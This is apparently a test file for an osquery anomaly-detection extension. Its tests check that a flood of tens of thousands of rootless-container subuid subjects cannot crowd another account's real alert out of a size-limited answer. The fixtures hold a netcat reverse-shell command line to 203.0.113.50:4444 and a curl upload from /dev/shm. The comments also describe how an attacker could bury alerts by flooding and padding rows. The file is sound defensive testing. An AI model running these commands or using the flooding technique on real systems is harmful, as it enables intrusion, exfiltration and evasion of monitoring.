import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import t, { type Test } from 'tap';
import { storedColumns } from '../scorer/features/extract';
import type { ScoredEvent } from '../scorer/types';
import { ANSWER_BYTES, answerShare, heldReasons } from '../extension/tables/answer';
import type { AnswerShare, HeldBack } from '../state/answer-share';
import { generateContext } from '../emulator/sql';
import { parseContext, scoreFilterOf, type Row } from '../extension/plugin/table';
import { SCORE_COLUMNS, scoresTable } from '../extension/tables/scores';
import { badAnswer, badRequest, tmpScoreStore } from './helpers/alert-answer';
import { plainRow } from './helpers/scored';
import { RetainedScores } from '../state/scores';
import { HostAccounts } from '../extension/host-accounts';

// The fold attack (review, lead 1): a local user who can make tens of thousands of subjects
// (the owner uids of a rootless container's files, 65,536 subuids a user, each `uid:N` as no
// account names it) gives each one bad row in the `bad` query's day. Every subject then
// needed a summary, the answer had room for 652, and the rest were folded into one `*`
// summary by their lowest score: another account's real alert, scored above the flood's
// zeros, was in no row of the answer. Run as osqueryd asks for the pack's `bad` query.

t.setTimeout(1_800_000);

const NOW = 1_800_000_000;
const HOST = 'web-01';

/**
 * attacker subject k's one bad row: the first act of a uid never seen, its path as long as they
 * like, in the event the answer sends (padding in `columns`, which the bad query does not
 * read, costs the answer nothing: revfold)
 */
const attackers = (k: number): ScoredEvent =>
  plainRow(k, {
    id: `flood-${k}`,
    time: NOW - 3600 + (k % 3600),
    host: HOST,
    subject: `uid:${100_000 + k}`,
    query: 'pack_user-behavior_file_events',
    event: `write /home/<user>/.local/share/containers/storage/overlay/${'a'.repeat(1200)}`,
    score: 0,
    verdict: 'bad',
    model: 'host:rarity',
    reasons: `new account: \`uid:${100_000 + k}\` never acted on this host before (in 41,210 events) (host:rarity)`,
    columns: JSON.stringify(
      storedColumns({ target_path: `/home/mallory/.local/share/containers/storage/overlay/${'a'.repeat(3000)}`, uid: String(100_000 + k) }),
    ),
  });

/** bob's history on the host: ordinary rows of the days before (the demo's bob has 3,237 events in 13 days) */
const history = (i: number): ScoredEvent =>
  plainRow(i, {
    id: `bob-${i}`,
    time: NOW - 13 * 86400 + i * 300,
    host: HOST,
    subject: 'bob',
    query: 'pack_user-behavior_process_events',
    event: 'exec /usr/bin/git <- /bin/bash',
    score: 0.8 + (i % 20) / 100,
    verdict: 'good',
    columns: JSON.stringify(storedColumns({ pid: String(2000 + i), path: '/usr/bin/git', cmdline: 'git status', uid: '1002' })),
  });

/**
 * bob's real alert, the demo's reverse shell row as the scorer retained it (`npm run demo --
 * --end 2026-11-22`, 1,005 bytes stored; its 31 bad rows are 588 to 1,005): scored 0, as low
 * as the flood's rows
 */
const VICTIM: ScoredEvent = {
  id: 'toxggc-2771116bde6568da',
  time: NOW - 1800,
  host: HOST,
  subject: 'bob',
  query: 'pack_user-behavior_process_events',
  action: 'added',
  event: 'exec /usr/bin/nc <- /bin/bash',
  score: 0,
  verdict: 'bad',
  model: 'rarity',
  reasons:
    "new value: working directory `/tmp` never seen before (in 3,153 events); `exec /usr/bin/nc <- /bin/bash` lies outside the learned shape of this subject's events (SVM margin -2.162) (rarity; 3,237 events in 13 days of history)",
  columns:
    '{"pid":"7353","path":"/usr/bin/nc","mode":"0100755","cmdline":"nc -e /bin/sh 203.0.113.50 4444","cwd":"/tmp","auid":"1002","uid":"1002","euid":"1002","gid":"1002","egid":"1002","owner_uid":"0","owner_gid":"0","atime":"1795304460","mtime":"1791590400","ctime":"1791590400","btime":"0","parent":"7347","time":"1795390860","uptime":"1209460","syscall":"execve"}',
};

/** the answer's summaries and rows shown, checked to account for all `bad` rows */
function accounted(t: Test, out: Row[], bad: number): { held: Row[]; shown: number } {
  const held = out.filter((r) => r.model === 'held-back');
  const shown = out.length - held.length;
  const heldRows = held.reduce((n, r) => n + Number(/held back: (\d+) rows/.exec(r.event)?.[1]), 0);
  t.equal(shown + heldRows, bad, `every bad row is shown or counted in a summary (${shown} shown, ${heldRows} held back in ${held.length} summaries)`);
  return { held, shown };
}

t.test("tens of thousands of attacker subjects with a bad row each do not fold another account's alert out of the bad answer (fold)", async (t) => {
  const store = tmpScoreStore(t);
  // 40,000 of one rootless user's 65,536 subuids
  const FLOOD = 40_000;
  for (let i = 0; i < 3_000; i += 1_000) store.append(Array.from({ length: 1_000 }, (_, k) => history(i + k)));
  let batch: ScoredEvent[] = [];
  for (let k = 0; k < FLOOD; k++) {
    batch.push(attackers(k));
    if (k === 20_000) batch.push(VICTIM);
    if (batch.length >= 2_000) {
      store.append(batch);
      batch = [];
    }
  }
  store.append(batch);

  const out = await badAnswer(store, NOW);
  t.ok(
    out.some((r) => r.id === VICTIM.id),
    "bob's alert is a row of the answer",
  );
  const { held, shown } = accounted(t, out, FLOOD + 1);
  const bytes = out.reduce((n, r) => n + Object.entries(r).reduce((m, [k, v]) => m + 8 + k.length + Buffer.byteLength(v ?? ''), 6), 0);
  t.ok(bytes <= ANSWER_BYTES, `the answer keeps to its budget (${(bytes / 2 ** 20).toFixed(1)} MB)`);
  t.ok(shown > 5_000, `the budget holds rows, not only summaries (${shown} rows)`);
  const folded = held.find((r) => r.subject === '*');
  t.ok(folded, 'the subjects with no room are summed up in one row');
  const subjects = Number(/ of (\d+) subjects/.exec(folded?.event ?? '')?.[1]);
  t.ok(subjects > 0 && subjects === Number(/held back: (\d+) rows/.exec(folded?.event ?? '')?.[1]), `which counts them (${folded?.event})`);
  t.match(folded?.event ?? '', /among them "uid:1\d{5}@web-01"/, 'and names some');
  t.match(folded?.reasons ?? '', /no row and no summary of their own.*most rows retained beyond this answer first/, `and says why (${folded?.reasons})`);
  // what the summary says to do: a query of few columns has room for every subject
  const sql = `SELECT subject, host, count(*) AS n FROM anomaly_scores WHERE score < 0.3 AND time > ${NOW - 86400} GROUP BY subject, host`;
  const res = await scoresTable(store).call(
    {
      action: 'generate',
      context: generateContext(
        sql,
        SCORE_COLUMNS.map((c) => ({ name: c.name, type: c.type, op: '0' })),
        'anomaly_scores',
      ),
    },
    new Map(),
  );
  const few: Row[] = [];
  for await (const r of (res as unknown as { rows: AsyncIterable<Row> }).rows) few.push(r);
  t.equal(new Set(few.map((r) => r.subject)).size, FLOOD + 1, 'a query of subject and host alone answers every subject, none held back');
  const ownSummaries = held.filter((r) => r.subject !== '*');
  t.ok(ownSummaries.length > 0 && ownSummaries.every((r) => r.subject.startsWith('uid:')), "the summaries of their own are the flood's too");
});

t.test('where not every subject has room, standing decides before score: a crowd ranks below an account with twice its history (fold)', async (t) => {
  // room for 8 rows (a row 1,000 bytes, two summaries of 1,000 kept out of 10,000)
  const share: AnswerShare = { bytes: 10_000, heldBytes: 1_000, rows: 1_000, perSubject: Infinity, rowBytes: () => 1_000 };
  const run = (crowdHistory: number): string[] => {
    const store = tmpScoreStore(t);
    const rows: ScoredEvent[] = [];
    let i = 0;
    const subject = (name: string, history: number, score: number): void => {
      for (let k = 0; k < history; k++) rows.push(plainRow(i++, { id: `${name}-${k}`, subject: name, time: NOW - 86400 + k }));
      rows.push(plainRow(i++, { id: `${name}-bad`, subject: name, score, verdict: 'bad', time: NOW - 60 }));
    };
    subject('bob', 64, 0.2);
    for (let c = 0; c < 20; c++) subject(`uid:${100_000 + c}`, crowdHistory, 0);
    store.append(rows);
    return [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share)].filter((r) => !('held' in r)).map((r) => (r as ScoredEvent).id);
  };
  const fewer = run(31);
  t.equal(fewer.length, 8, 'the room is used');
  t.ok(fewer.includes('bob-bad'), `bob (64 rows retained) is answered before 20 subjects of 31 rows each scored lower (${fewer.join(' ')})`);
  t.notOk(run(63).includes('bob-bad'), 'subjects with as much history (in powers of two) and lower scores come first: the limit retention bounds');
});

t.test('the shared summary does not say its subjects have no row when some have rows in the answer (revfold)', async (t) => {
  // room for 2 summaries and 76 rows: 4 subjects of 30 rows each keep 20 each, every one is
  // cut, and the 3 ranked after the first share the `*` summary though each has 20 rows answered
  const share: AnswerShare = { bytes: 10_000, heldBytes: 1_000, rows: 1_000, perSubject: Infinity, rowBytes: () => 100 };
  const store = tmpScoreStore(t);
  const rows: ScoredEvent[] = [];
  for (let s = 0; s < 4; s++)
    for (let k = 0; k < 30; k++) rows.push(plainRow(s * 30 + k, { id: `u${s}-${k}`, subject: `u${s}`, score: 0.1, verdict: 'bad', time: NOW - 3600 + k }));
  store.append(rows);
  const out = [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share)];
  const shown = out.filter((r) => !('held' in r)) as ScoredEvent[];
  const shared = out.find((r): r is HeldBack<ScoredEvent> => 'held' in r && r.subject === '*');
  t.ok(shared, 'the subjects past the room for summaries share one');
  const of = new Set(shared?.names.map(([s]) => s));
  const answered = new Set(shown.filter((r) => of.has(r.subject)).map((r) => r.subject));
  t.equal(answered.size, 3, `each of the 3 subjects it sums up has rows in the answer (${[...answered].join(' ')})`);
  const reasons = heldReasons(shared!, 'rows', share);
  t.notMatch(reasons, /with no row and no summary/, `it does not say they have no row (${reasons})`);
  t.match(reasons, /3 of them have rows in this answer/, 'it says how many have');
});

t.test("a flood of rows that retires an account's history does not rank a crowd of new subjects before its alert (revfold)", async (t) => {
  // room for 8 rows, as above. Retention is one queue for every subject (max_rows, oldest
  // first): the attacker's own ordinary rows retire bob's history, his standing falls to 0,
  // and 20 new subjects scored by the host's baseline (standing 0, scores below his) come first
  const share: AnswerShare = { bytes: 10_000, heldBytes: 1_000, rows: 1_000, perSubject: Infinity, rowBytes: () => 1_000 };
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-alert-fold-'));
  const store = new RetainedScores({ dir, maxRows: 1_000, maxDays: 30 });
  t.teardown(() => {
    store.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });
  let i = 0;
  const rows: ScoredEvent[] = [];
  for (let k = 0; k < 64; k++) rows.push(plainRow(i++, { id: `bob-${k}`, subject: 'bob', time: NOW - 86400 + k }));
  // mallory's ordinary rows, as many as retention keeps less the alerts after them
  for (let k = 0; k < 979; k++) rows.push(plainRow(i++, { id: `mallory-${k}`, subject: 'mallory', time: NOW - 7200 + k }));
  rows.push(plainRow(i++, { id: 'bob-bad', subject: 'bob', score: 0.2, verdict: 'bad', time: NOW - 60 }));
  for (let c = 0; c < 20; c++)
    rows.push(plainRow(i++, { id: `crowd-${c}`, subject: `uid:${100_000 + c}`, score: 0, verdict: 'bad', model: 'host:rarity', time: NOW - 30 }));
  store.append(rows);
  t.equal(store.size, 1_000, 'retention kept max_rows');
  const shown = [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share)].filter((r) => !('held' in r)).map((r) => (r as ScoredEvent).id);
  t.equal(shown.length, 8, 'the room is used');
  t.ok(shown.includes('bob-bad'), `bob's alert, scored by his own models, is answered before new subjects scored by the host's (${shown.join(' ')})`);
});

t.test("a flood's rows padded in `columns`, which the bad query does not read, are not charged for it (revfold)", async (t) => {
  // osqueryd's colsUsed leaves `columns` out of the bad query's rows, but the budget charged
  // each row up to its stored JSON, the padding included (a command line of 4,096 characters
  // and a working directory of 1,024, as the store keeps them): 4.6 kB a row of the flood for
  // some 0.3 kB on the wire
  const store = tmpScoreStore(t);
  const FLOOD = 1_000;
  const padded = (k: number): ScoredEvent => ({
    ...attackers(k),
    columns: JSON.stringify(
      storedColumns({ cmdline: `sh -c ${'x'.repeat(5000)}`, cwd: `/home/mallory/${'d'.repeat(1100)}`, path: '/bin/sh', uid: String(100_000 + k) }),
    ),
  });
  store.append([...Array.from({ length: FLOOD }, (_, k) => padded(k)), VICTIM]);
  const ctx = parseContext(badRequest(NOW).context);
  const share: AnswerShare = { ...answerShare(ctx, SCORE_COLUMNS, new Set(['id', 'action', 'verdict', 'model']), false), bytes: 2_000_000 };
  const out = [...store.answer(scoreFilterOf(ctx), share)];
  const rows = out.filter((r): r is ScoredEvent => !('held' in r));
  const used = [...(ctx.colsUsed ?? [])];
  t.notOk(used.includes('columns'), 'the bad query reads no columns');
  const wire = rows.reduce((n, r) => n + used.reduce((m, c) => m + 8 + c.length + Buffer.byteLength(String(r[c as keyof ScoredEvent] ?? '')), 6), 0);
  t.equal(
    rows.length,
    FLOOD + 1,
    `every subject's row is in the answer (${rows.length} rows, ${out.length - rows.length} summaries, ${wire} bytes of ${share.bytes})`,
  );
  t.ok(wire <= share.bytes, 'within its bytes');
});

/**
 * the host's users table as the extension reads it: root, bob, mallory (who runs the rootless
 * container) and `sysupd`, the account the attacker's root shell made with useradd an hour ago
 */
const hostAccounts = (): HostAccounts => {
  const a = new HostAccounts();
  a.update([
    { uid: '0', username: 'root' },
    { uid: '1002', username: 'bob' },
    { uid: '1003', username: 'mallory' },
    { uid: '1005', username: 'sysupd' },
  ]);
  return a;
};

/** an ordinary row of `subject` while it learns, scored by the host's baseline: what gives a subject standing */
const learningRow = (subject: string, k: number, i: number): ScoredEvent =>
  plainRow(i, {
    id: `${subject}-early-${k}`,
    time: NOW - 20 * 3600 + k * 60,
    host: HOST,
    subject,
    query: 'pack_user-behavior_file_events',
    event: 'write /home/<user>/.local/share/containers/storage/<*>',
    score: 0.8,
    verdict: 'good',
    model: 'host:rarity',
  });

t.test('a fresh account root made, still learning, is not folded out of the bad answer by a crowd of uid subjects (foldacct)', async (t) => {
  // The crowd: 40,000 of mallory's subuids, each with 7 ordinary rows earlier in the day
  // (standing 3, 280,000 rows of the 1,000,000 retention keeps) and one bad row scored 0 by
  // the host's baseline, all still learning. The backdoor `sysupd` is still learning too: its
  // first rows (a login, a shell, sudo) and its bad one are the host baseline's, 0.12, and its
  // history is 3 rows (standing 2). Neither the own-models tier nor standing nor score can
  // place it before the crowd; being an account the users table lists does
  const store = tmpScoreStore(t);
  const FLOOD = 40_000;
  let i = 0;
  let batch: ScoredEvent[] = [];
  const flush = (at: number): void => {
    if (batch.length < at) return;
    store.append(batch);
    batch = [];
  };
  for (let k = 0; k < 3; k++) batch.push(learningRow('sysupd', k, i++));
  for (let c = 0; c < FLOOD; c++) {
    for (let k = 0; k < 7; k++) batch.push(learningRow(`uid:${100_000 + c}`, k, i++));
    flush(10_000);
  }
  flush(1);
  const backdoor: ScoredEvent = {
    ...VICTIM,
    id: 'sysupd-bad',
    subject: 'sysupd',
    event: 'shell curl -s -T /dev/shm/<tmp> https://<*>/u',
    score: 0.12,
    model: 'host:rarity',
    reasons:
      "new kind of behaviour: argloc `temp-hidden` never seen before on this host (in 41,210 events); `shell curl -s -T /dev/shm/<tmp> https://<*>/u` never occurred in this subject's training sequence (host:rarity; learning: 4 of 1,000 events)",
  };
  // its first process rows, scored before the extension read the users table again (every
  // 600 s), are named by its uid: the same account
  const early: ScoredEvent = { ...backdoor, id: 'uid1005-bad', subject: 'uid:1005', time: NOW - 3000, event: 'exec /usr/bin/id <- /bin/bash' };
  for (let k = 0; k < FLOOD; k++) {
    // a quarter of the crowd's rows short: once the long ones no longer fit, these take what
    // room is left, which a row of the backdoor's size would otherwise have had
    batch.push(k % 4 === 3 ? { ...attackers(k), event: 'write /home/<user>/.local/share/containers/<*>' } : attackers(k));
    if (k === 20_000) batch.push(backdoor, early);
    flush(2_000);
  }
  flush(1);

  const foldedOf = (rows: Row[]): number => Number(/ of (\d+) subjects/.exec(rows.find((r) => r.subject === '*')?.event ?? '')?.[1]);
  const without = await badAnswer(store, NOW);
  t.notOk(
    without.some((r) => r.id === backdoor.id),
    `without the users table the backdoor ranks among the crowd and is folded (the rows a crowd may make outrank it: ${without.filter((r) => r.model !== 'held-back').length} rows shown, ${foldedOf(without)} subjects folded)`,
  );
  const out = await badAnswer(store, NOW, hostAccounts());
  t.ok(
    out.some((r) => r.id === backdoor.id),
    "the backdoor's row is a row of the answer",
  );
  t.ok(
    out.some((r) => r.id === early.id),
    'and so is its row the scorer named by its uid before it knew the account',
  );
  const { held } = accounted(t, out, FLOOD + 2);
  const folded = held.find((r) => r.subject === '*');
  t.ok(folded, `the crowd's subjects with no room are still summed up in one row (${foldedOf(out)} subjects)`);
  t.match(folded?.reasons ?? '', /accounts the host's users table lists before/, `which says accounts rank first (${folded?.reasons})`);
});

t.test('an account the host lists ranks before subjects it does not list, whatever their standing, score or names (foldacct)', async (t) => {
  // room for 8 rows, as above
  const share = (accounts?: HostAccounts): AnswerShare => ({
    bytes: 10_000,
    heldBytes: 1_000,
    rows: 1_000,
    perSubject: Infinity,
    rowBytes: () => 1_000,
    account: accounts && ((s) => accounts.has(s)),
  });
  const store = tmpScoreStore(t);
  const rows: ScoredEvent[] = [];
  let i = 0;
  const subject = (name: string, history: number, score: number): void => {
    for (let k = 0; k < history; k++) rows.push(plainRow(i++, { id: `${name}-${k}`, subject: name, model: 'host:rarity', time: NOW - 86400 + k }));
    rows.push(plainRow(i++, { id: `${name}-bad`, subject: name, score, verdict: 'bad', model: 'host:rarity', time: NOW - 60 }));
  };
  subject('sysupd', 0, 0.25);
  // subuids, and names a login row could give that no passwd entry has (utmp's user, were it
  // writable): neither is an account the table lists
  for (let c = 0; c < 10; c++) subject(`uid:${100_000 + c}`, 63, 0);
  for (let c = 0; c < 10; c++) subject(`sysupd${c}`, 63, 0);
  store.append(rows);
  const shown = (accounts?: HostAccounts): string[] =>
    [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share(accounts))].filter((r) => !('held' in r)).map((r) => (r as ScoredEvent).id);
  t.notOk(shown().includes('sysupd-bad'), 'without the users table, 20 subjects of more history and lower scores take the room');
  const answered = shown(hostAccounts());
  t.equal(answered.length, 8, 'the room is used');
  t.ok(answered.includes('sysupd-bad'), `with it, the account is answered first (${answered.join(' ')})`);
});

t.test('the tier compares a subject as the scorer wrote it, not as a cell shows it (revacct)', async (t) => {
  // a name with a control character is shown escaped (`\x01`); the store keeps the raw name and
  // the users table answers it raw: the listed account is in the tier, and a subject a row wrote
  // as the escaped text, which shows alike, is not (room for 8 rows, as above)
  const accounts = new HostAccounts();
  accounts.update([{ uid: '1005', username: 'sys\u0001upd' }]);
  const share: AnswerShare = { bytes: 10_000, heldBytes: 1_000, rows: 1_000, perSubject: Infinity, rowBytes: () => 1_000, account: (s) => accounts.has(s) };
  const store = tmpScoreStore(t);
  const rows: ScoredEvent[] = [];
  let i = 0;
  const subject = (name: string, id: string, history: number, score: number): void => {
    for (let k = 0; k < history; k++) rows.push(plainRow(i++, { id: `${id}-${k}`, subject: name, model: 'host:rarity', time: NOW - 86400 + k }));
    rows.push(plainRow(i++, { id: `${id}-bad`, subject: name, score, verdict: 'bad', model: 'host:rarity', time: NOW - 60 }));
  };
  subject('sys\u0001upd', 'raw', 0, 0.25);
  subject('sys\\x01upd', 'written', 0, 0.25);
  for (let c = 0; c < 20; c++) subject(`uid:${100_000 + c}`, `crowd${c}`, 63, 0);
  store.append(rows);
  const shown = [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share)].filter((r) => !('held' in r)).map((r) => (r as ScoredEvent).id);
  t.ok(shown.includes('raw-bad'), `the listed account, raw, is answered (${shown.join(' ')})`);
  t.notOk(shown.includes('written-bad'), 'the subject that only shows like it is not in the tier');
});
